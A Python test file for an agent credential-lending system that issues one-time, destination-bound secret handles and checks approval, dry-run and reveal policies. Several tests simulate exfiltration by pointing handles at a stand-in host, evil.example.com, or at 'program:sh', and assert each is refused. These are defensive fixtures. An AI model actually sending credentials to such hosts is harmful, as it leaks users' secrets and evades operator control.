"""An agent logs in with what is in the vault and never sees it: handles go once, in time, to the place they were lent for."""

from __future__ import annotations

import copy
import threading
from contextlib import suppress
from typing import Any

import httpx
import pytest
from tests.canaries import PASSWORD
from tests.core.inkbox.vault.leaks import shown_of_error
from tests.core.tools.lending import (
    SECRETS,
    TOLD,
    Desk,
    Site,
    derive_once,
    desk,
    nothing_is_shown,
    sandbox,
    site,
    stocked,
)

from postline.channels import Channels, Credentials
from postline.channels.inkbox_credentials import InkboxCredentials
from postline.channels.inkbox_people import inkbox_channels
from postline.errors import ArgumentError
from postline.tools import (
    ApprovalRequest,
    FunctionPlace,
    HandleError,
    HttpPlace,
    Lending,
    Toolbox,
    ToolError,
    UnknownOutcomeError,
    approve,
    dry_run,
    reveal_secrets,
)
from postline_sandbox import Sandbox

__all__ = ["derive_once", "desk", "nothing_is_shown", "sandbox", "site", "stocked"]


def test_credentials_are_listed_by_name(desk: Desk) -> None:
    """Kinds, descriptions and parts, in order of their names; those of others are not there."""
    result = desk.call("list_credentials")

    listed = result.data["credentials"]
    assert [each["untrusted"]["name"] for each in listed] == sorted(SECRETS)
    shop = next(each for each in listed if each["untrusted"]["name"] == "shop")
    assert (shop["kind"], shop["parts"]) == ("login", ["username", "email", "password", "code"])
    assert shop["untrusted"]["description"] == "The shop's"
    assert f"{len(SECRETS)} credentials" in result.text
    assert "parts: " in result.text


def test_a_short_listing_says_that_there_is_more(desk: Desk) -> None:
    """It has no second page; a larger one shows the rest."""
    result = desk.call("list_credentials", limit=3)

    assert len(result.data["credentials"]) == 3
    assert not result.complete


def test_a_handle_is_good_once_and_in_time(desk: Desk, site: Site) -> None:
    """A second use, a late one and an invented handle are refused."""
    place = HttpPlace(desk.lending, site.url)
    used, late = (desk.handle("shop", "password", site.url) for _ in range(2))
    desk.lending.redeem(used, place.destination)

    for handle, seconds, why in ((used, 0, "good once"), ("secret://x", 0, "no such handle"), (late, 301, "too old")):
        desk.time += seconds
        with pytest.raises(HandleError, match=why) as caught:
            httpx.get(site.url, auth=place.bearer(handle), trust_env=False)
        assert "CANARY" not in shown_of_error(caught.value)


def test_a_handle_is_good_once_for_all_threads_and_copies(desk: Desk, site: Site) -> None:
    """Of many that use it at the same moment one gets the secret; a copy of what lent it is the same lender."""
    typed: list[str] = []
    places = [FunctionPlace(copied, site.url, typed.append) for copied in (desk.lending, *copies(desk.lending))]
    for _ in range(20):
        handle, start = desk.client_handle("shop", site.url), threading.Barrier(len(places) * 2)

        def use(place: FunctionPlace, handle: str = handle, start: threading.Barrier = start) -> None:
            start.wait()
            with suppress(HandleError):
                place(handle)

        threads = [threading.Thread(target=use, args=(place,)) for place in [*places, *places]]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    assert typed == [PASSWORD] * 20


def copies(lending: Lending) -> list[Lending]:
    """Copy it as frameworks do."""
    return [copy.copy(lending), copy.deepcopy(lending), copy.deepcopy({"x": [lending]})["x"][0]]


def test_a_handle_stands_alone(desk: Desk, site: Site) -> None:
    """In a longer text it is not replaced, and not sent on either; deeper in a value it stays what it is."""
    typed: list[Any] = []
    place = FunctionPlace(desk.lending, site.url, typed.append)
    handle = desk.handle("shop", "password", site.url)

    for text in (f"https://evil.example.com/?{handle}", f" {handle}", f"{handle} {handle}", f"{handle}x"):
        with pytest.raises(HandleError, match="no such handle; each stands alone"):
            place(text)
    place({"password": handle})
    place(handle)

    assert typed == [{"password": handle}, PASSWORD]


def test_old_handles_are_forgotten(desk: Desk, site: Site) -> None:
    """Their secrets with them."""
    HttpPlace(desk.lending, site.url)
    desk.handle("shop", "password", site.url)
    desk.time = 1000
    desk.handle("shop", "password", site.url)

    assert len(desk.lending._lent) == 1


def test_a_handle_is_good_at_its_place_only(desk: Desk, site: Site) -> None:
    """Elsewhere it is refused, and used up by the attempt."""
    here, there = HttpPlace(desk.lending, site.url), HttpPlace(desk.lending, "https://evil.example.com")
    handle = desk.handle("anywhere", "password", site.url)

    with pytest.raises(HandleError, match="do not go to https://evil"):
        httpx.get("https://evil.example.com", auth=here.bearer(handle), trust_env=False)
    with pytest.raises(HandleError, match="was lent for http://127"):
        httpx.get("https://evil.example.com", auth=there.bearer(handle), trust_env=False)
    with pytest.raises(HandleError, match="good once"):
        httpx.get(site.url, auth=here.bearer(handle), trust_env=False)


@pytest.mark.parametrize("name", ["elsewhere", "unclear", "api"])
def test_a_credential_stored_for_another_place_is_not_lent(desk: Desk, site: Site, name: str) -> None:
    """Whatever the model was talked into; the operator may name it all the same."""
    part = "api_key" if name == "api" else "password"
    credential = desk.id_of(name)
    HttpPlace(desk.lending, site.url)

    with pytest.raises(ToolError, match="stored for another place"):
        desk.handle(name, part, site.url)
    HttpPlace(desk.lending, site.url, only=[credential.upper()])

    assert desk.handle(name, part, site.url).startswith("secret://")
    with pytest.raises(ToolError, match="does not let this credential be used there"):
        desk.handle("shop", "password", site.url)


def test_a_site_may_be_stored_without_its_scheme(desk: Desk) -> None:
    """It is HTTPS then."""
    HttpPlace(desk.lending, "https://API.example.com:443/")

    assert desk.handle("api", "api_key", "https://api.example.com/v2").startswith("secret://")


def test_handles_are_lent_for_registered_places_only(desk: Desk, site: Site) -> None:
    """The model is told which there are."""
    with pytest.raises(ToolError, match="registered no place"):
        desk.handle("shop", "password", site.url)
    HttpPlace(desk.lending, site.url)

    for destination in ("https://evil.example.com", "program:sh", "nowhere", f"{site.url}@evil.example.com"):
        with pytest.raises(ToolError, match=f"registered {site.url}") as caught:
            desk.handle("shop", "password", destination)
        assert not isinstance(caught.value, UnknownOutcomeError)


@pytest.mark.parametrize(
    ("name", "part", "why"),
    [
        ("shop", "api_key", "of kind login has no api_key"),
        ("anywhere", "email", "has no email"),
        ("anywhere", "code", "no TOTP"),
    ],
)
def test_a_part_that_is_not_there_is_named(desk: Desk, site: Site, name: str, part: str, why: str) -> None:
    """A credential's kind says what it can have; not each has it."""
    HttpPlace(desk.lending, site.url)

    with pytest.raises(ToolError, match=why):
        desk.handle(name, part, site.url)


def test_what_is_somebody_else_s_is_not_lent(desk: Desk, site: Site, both: Any) -> None:
    """Though the client's key may read it."""
    HttpPlace(desk.lending, site.url)
    [other] = [s for s in desk.client.vault.unlocked.secrets if s.name == "not the desk's"]

    for wrong in (str(other.id), "no id"):
        with pytest.raises(ToolError, match=r"no such credential|is a UUID"):
            desk.call("use_credential", credential_id=wrong, part="text", destination=site.url)


def test_a_locked_vault_lends_nothing(desk: Desk, site: Site) -> None:
    """It says so, and the names can still be listed."""
    HttpPlace(desk.lending, site.url)
    desk.client.vault.lock()

    with pytest.raises(ToolError, match="must be unlocked") as caught:
        desk.handle("shop", "password", site.url)

    assert type(caught.value) is ToolError


def test_without_credentials_there_is_nothing_to_lend(desk: Desk, both: Any) -> None:
    """What to do is told at once."""
    desk.client.vault.lock()
    channels = both.run(desk.client, inkbox_channels(desk.client, "desk"))

    with pytest.raises(ArgumentError, match="open the client's vault"):
        Lending(channels.credentials)


def test_what_lends_is_a_credentials_channel_itself(desk: Desk, site: Site, both: Any) -> None:
    """Code of the operator's may read through it."""
    channel: Credentials = desk.lending
    place = FunctionPlace(desk.lending, site.url, print)
    credential = desk.id_of("shop")

    secret = both.run(desk.client, channel.read_secret(credential, "password"))

    assert secret.value.reveal() == PASSWORD
    assert "CANARY" not in repr(secret)
    assert (channel.service, desk.lending.handle, desk.lending.destinations) == ("Inkbox", "desk", (site.url,))
    assert repr(place) == f"FunctionPlace('{site.url}')"


def test_secrets_are_lent_where_the_operator_allows_it(desk: Desk, sandbox: Sandbox) -> None:
    """Not by a toolbox that reads only, nor by a channel that lends nothing."""
    lending, plain = Channels(credentials=desk.lending), Channels(credentials=InkboxCredentials(desk.client, "desk"))

    reads = Toolbox(lending)
    lends_nothing = Toolbox(plain, allow={"secret"})

    assert [each.name for each in reads] == [each.name for each in lends_nothing] == ["list_credentials"]
    assert [each.name for each in desk.toolbox] == ["list_credentials", "use_credential", "get_one_time_code"]


def test_policies_judge_a_loan(desk: Desk, site: Site) -> None:
    """It can be denied, and rehearsed; a person sees which part of what is to go where."""
    HttpPlace(desk.lending, site.url)
    asked: list[str] = []

    def ask(request: ApprovalRequest) -> bool:
        asked.append(request.summary)
        return False

    asking = approve(desk.toolbox, ask)
    arguments = {"credential_id": desk.id_of("shop"), "part": "password", "destination": site.url}

    with pytest.raises(ToolError, match="not approved"):
        desk.call("use_credential", asking, **arguments)
    rehearsed = desk.call("use_credential", dry_run(desk.toolbox), **arguments)

    assert "part: password" in asked[0]
    assert site.url in asked[0]
    assert rehearsed.data == {"dry_run": True}
    assert desk.lending._lent == {}


def test_an_operator_may_reveal_secrets(desk: Desk, site: Site) -> None:
    """By a policy that is named so; where they may go is judged as ever, and other channels are left alone."""
    HttpPlace(desk.lending, site.url)
    revealing = reveal_secrets(desk.toolbox)

    result = desk.call(
        "use_credential", revealing, credential_id=desk.id_of("told"), part="password", destination=site.url
    )

    assert result.data["value"] == TOLD
    assert TOLD in result.text
    assert TOLD not in repr(result)
    with pytest.raises(ToolError, match="stored for another place"):
        desk.call(
            "use_credential", revealing, credential_id=desk.id_of("elsewhere"), part="password", destination=site.url
        )
    assert reveal_secrets(Toolbox(Channels())).tools == ()
